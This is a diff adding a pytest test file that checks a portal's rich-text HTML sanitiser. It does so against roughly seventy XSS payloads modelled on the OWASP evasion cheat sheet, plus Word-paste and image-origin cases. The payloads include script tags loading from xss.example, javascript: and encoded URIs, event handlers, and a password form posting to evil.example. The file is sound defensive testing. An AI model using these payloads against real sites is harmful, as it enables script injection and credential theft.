@@ -1,0 +1,205 @@
+"""Rich text is sanitised on save: structure stays, nothing executable survives."""
+
+import re
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from portal.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, ALLOWED_URL_SCHEMES, sanitize_html
+from tests.factories import ReleaseFactory
+
+# In the style of the OWASP XSS Filter Evasion Cheat Sheet.
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG onmouseover=\"alert('xxs')\">",
+    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+    (
+        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000'
+        "114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#000"
+        '0116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'
+    ),
+    (
+        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#10"
+        "8;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
+    ),
+    (
+        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&"
+        "#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"
+    ),
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
+    "<SCRIPT SRC=//xss.example/.j>",
+    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<svg/onload=alert('XSS')>",
+    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
+    "<BODY ONLOAD=alert('XSS')>",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
+    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+    (
+        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVy'
+        'dCgnWFNTJyk8L3NjcmlwdD4K">'
+    ),
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
+    (
+        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub'
+        "3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5r"
+        "PSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHd"
+        "pZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcm"
+        'lwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScrip'
+        'tAccess="always"></EMBED>'
+    ),
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JAVASCRIPT&colon;alert(1)">click</a>',
+    '<a href="&#106;avascript:alert(1)">click</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+    '<a href="vbscript:msgbox(1)">click</a>',
+    '<a href=" javascript:alert(1)">click</a>',
+    '<a href="java&#x0D;script:alert(1)">click</a>',
+    '<img src="data:image/png;base64,iVBORw0KGgo=">',
+    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
+    '<button formaction="javascript:alert(1)">x</button>',
+    '<details open ontoggle="alert(1)">x</details>',
+    '<video><source onerror="alert(1)"></video>',
+    "<audio src=x onerror=alert(1)>",
+    (
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
+        "</table></mtext></math>"
+    ),
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<p style="behavior: url(xss.htc)">styled</p>',
+    "<p><!--<img src=x onerror=alert(1)>--></p>",
+    "<template><script>alert(1)</script></template>",
+    '<a href="https://example.org/" onclick="alert(1)" target="_blank">ok</a>',
+    '<p class="MsoNormal" onmouseenter="alert(1)">Word</p>',
+    '<object data="javascript:alert(1)"></object>',
+    '<isindex action="javascript:alert(1)" type=image>',
+    "<img src=\"x:gif\" onerror=\"window['al'+'ert'](0)\">",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<a href="\x00javascript:alert(1)">nul</a>',
+]
+
+EXECUTABLE_TAGS = {
+    "script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input",
+    "button", "meta", "link", "base", "svg", "math", "template", "noscript", "video", "audio",
+    "source", "details", "body", "isindex", "bgsound",
+}  # fmt: skip
+
+
+class Elements(HTMLParser):
+    """Collects every tag and attribute the browser would see."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, attrs))
+
+    handle_startendtag = handle_starttag
+
+
+def elements(html: str):
+    parser = Elements()
+    parser.feed(html)
+    parser.close()
+    return parser.found
+
+
+def test_the_corpus_has_at_least_fifty_payloads():
+    assert len(XSS_PAYLOADS) >= 50
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_nothing_executable_survives_sanitising(payload):
+    clean = sanitize_html(payload)
+    for tag, attrs in elements(clean):
+        assert tag in ALLOWED_TAGS and tag not in EXECUTABLE_TAGS, clean
+        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ALLOWED_ATTRIBUTES["*"] | {"rel"}
+        for name, value in attrs:
+            assert name in allowed, clean
+            assert not name.startswith("on"), clean
+            if name in {"href", "src"} and value:
+                scheme = urlsplit(value.strip()).scheme.lower()
+                assert scheme in ALLOWED_URL_SCHEMES | {""}, clean
+            if value:
+                squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
+                assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), clean
+    assert "<script" not in clean.lower()
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_sanitising_twice_changes_nothing(payload):
+    once = sanitize_html(payload)
+    assert sanitize_html(once) == once
+
+
+def test_pasted_word_keeps_its_structure_and_loses_its_styles():
+    pasted = (
+        '<h2 class="MsoHeading2" style="color:red">Figures</h2>'
+        '<p class="MsoNormal"><span style="font-family:SimSun">Growth of <b>23.7%</b></span></p>'
+        '<ul><li style="mso-list:l0">High-tech</li><li>Gazelle</li></ul>'
+        '<table border="1"><tr><td colspan="2" style="width:50%">Cell</td></tr></table>'
+        "<blockquote>Quoted</blockquote>"
+        '<p><a href="https://www.ln.gov.cn/" target="_blank">Source</a></p>'
+    )
+    clean = sanitize_html(pasted)
+    assert "<h2>Figures</h2>" in clean
+    assert "<b>23.7%</b>" in clean
+    assert "<li>High-tech</li>" in clean
+    assert '<td colspan="2">Cell</td>' in clean
+    assert "<blockquote>Quoted</blockquote>" in clean
+    assert 'href="https://www.ln.gov.cn/"' in clean
+    assert "style=" not in clean
+    assert "class=" not in clean
+    assert "<span" not in clean
+
+
+@pytest.mark.django_db
+def test_a_release_body_is_sanitised_when_saved():
+    release = ReleaseFactory(body_en='<p onclick="alert(1)">Hi<script>alert(2)</script></p>')
+    release.refresh_from_db()
+    assert release.body_en == "<p>Hi</p>"
+
+
+def test_images_are_kept_only_from_the_portals_media():
+    clean = sanitize_html(
+        '<p><img src="/media/images/2026/chart.png" alt="Chart">'
+        '<img src="https://tracker.example/pixel.gif" alt="Pixel">'
+        '<img src="//cdn.example/media/x.png" alt="Elsewhere"></p>'
+    )
+    assert '<img src="/media/images/2026/chart.png" alt="Chart">' in clean
+    assert "tracker.example" not in clean
+    assert "cdn.example" not in clean
